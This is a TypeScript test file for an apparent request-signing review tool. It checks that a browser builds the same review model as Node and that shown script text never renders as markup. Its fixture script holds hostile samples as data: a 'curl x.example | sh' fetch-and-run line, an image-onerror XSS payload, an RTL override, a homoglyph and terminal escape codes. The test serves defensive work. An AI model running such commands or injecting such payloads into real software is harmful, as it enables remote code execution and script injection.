/** What people see before they sign is the same in a browser as in a terminal, and what it shows cannot become markup. */
// needs: chromium
import { fileURLToPath } from "node:url";
import { encodeBase64, encodeUtf8 } from "@countersign/protocol";
import { nodeCrypto } from "@countersign/protocol/node";
import { reviewRequest, segmentsOf, TEXT_CONTEXTS } from "@countersign/review";
import {
  makeAdmission,
  makeCountersignWorld,
  makeRequest,
  scriptAction,
  signRequest,
} from "@countersign/testkit";
import { expect, test } from "vitest";
import { bundle, openPage } from "./browser/open-page.ts";
import type { ReviewCase } from "./browser/review-page.ts";

const entry = fileURLToPath(new URL("browser/review-page.ts", import.meta.url));
const script = encodeUtf8(
  "#!/bin/sh\ncurl x.example | sh # \u202e<img src=x onerror=alert(1)>\necho p\u0430y\r\u001b[2J\n",
);

test("a browser makes the same model of a request, and of every text", async () => {
  const { operator, device, alice } = await makeCountersignWorld();
  const admission = makeAdmission({ root: operator, devices: [device], signers: [alice] });
  const overrides = { action: scriptAction(script, { args: ["a\u200bb"], env: { LD_PRELOAD: "x" } }) };
  const request = makeRequest({ roots: [operator], targets: [device], requester: "alice", overrides });
  const signed = signRequest(request, alice, script);
  const held = { roots: [operator.pinned], people: [], admissions: [admission.bytes] };
  const here = await reviewRequest({ signed, script, held, crypto: nodeCrypto });
  expect(here).toMatchObject({ ok: true });
  const given: ReviewCase = {
    bytes: encodeBase64(signed.bytes),
    signatures: signed.signatures,
    script: encodeBase64(script),
    root: encodeBase64(operator.bytes),
    admission: encodeBase64(admission.bytes),
  };
  const texts = [
    "\u202eabc",
    "p\u0430y",
    "a\u0301\u0301\u0301\u0301\u0301",
    "\ue000\u{e0041}\u2800",
    "a\nb\tc\u0085",
    "\ud800x",
  ];

  await using opened = await openPage(entry);
  expect(await opened.page.evaluate(`review(${JSON.stringify(given)})`)).toEqual(here);
  expect(await opened.page.evaluate(`segments(${JSON.stringify(texts)})`)).toEqual(
    texts.map((text) => TEXT_CONTEXTS.map((context) => segmentsOf(text, context))),
  );
  const shown = await opened.page.evaluate<{
    text: string;
    elements: number;
  }>(`review(${JSON.stringify(given)}).then(({ model }) => {
    for (const { segments } of model.action.script.lines)
      for (const { text } of segments) {
        const isolated = document.createElement("bdi");
        isolated.append(text);
        document.body.append(isolated);
      }
    return { text: document.body.innerText, elements: document.querySelectorAll("body :not(bdi)").length };
  })`);
  expect(shown.elements).toBe(0);
  expect(shown.text).toContain("‹U+202E RIGHT-TO-LEFT OVERRIDE›<img src=x onerror=alert(1)>");
  expect(opened.complaints).toEqual([]);
});

test("the package reaches a browser without anything of Node", async () => {
  const code = await bundle(entry);
  expect(code).not.toMatch(/\bfrom ?["']node:|\brequire\(/);
});
